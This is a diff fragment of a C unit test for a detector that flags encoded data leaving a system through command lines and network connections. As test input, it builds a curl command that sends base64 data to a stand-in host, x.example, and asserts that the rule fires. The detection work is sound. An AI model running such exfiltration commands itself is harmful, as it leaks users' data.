@@ -332,8 +332,12 @@ TEST(encoded_data_is_noticed_on_its_way_out)
 	fill(data, 400, BASE64);
 	snprintf(text, sizeof text, "curl https://x.example/?d=%s", data);
 	did(&run, 5, 2, "/usr/bin/curl", text);
+	CHECK_INT(run.hits[RULE_ENCODED], 1);
 	fill(data, 300, "0123456789abcdef");
 	snprintf(text, sizeof text, "tool %s", data);
+	did(&run, 6, 2, "/usr/bin/tool", text);
+	CHECK_INT(run.hits[RULE_ENCODED], 1); /* to nobody */
+	talked(&run, 5, "x.example", 443, "GET /");
 	did(&run, 6, 2, "/usr/bin/tool", text);
 	CHECK_INT(run.hits[RULE_ENCODED], 2);
 	snprintf(text, sizeof text, "GET /?q=%s", data);
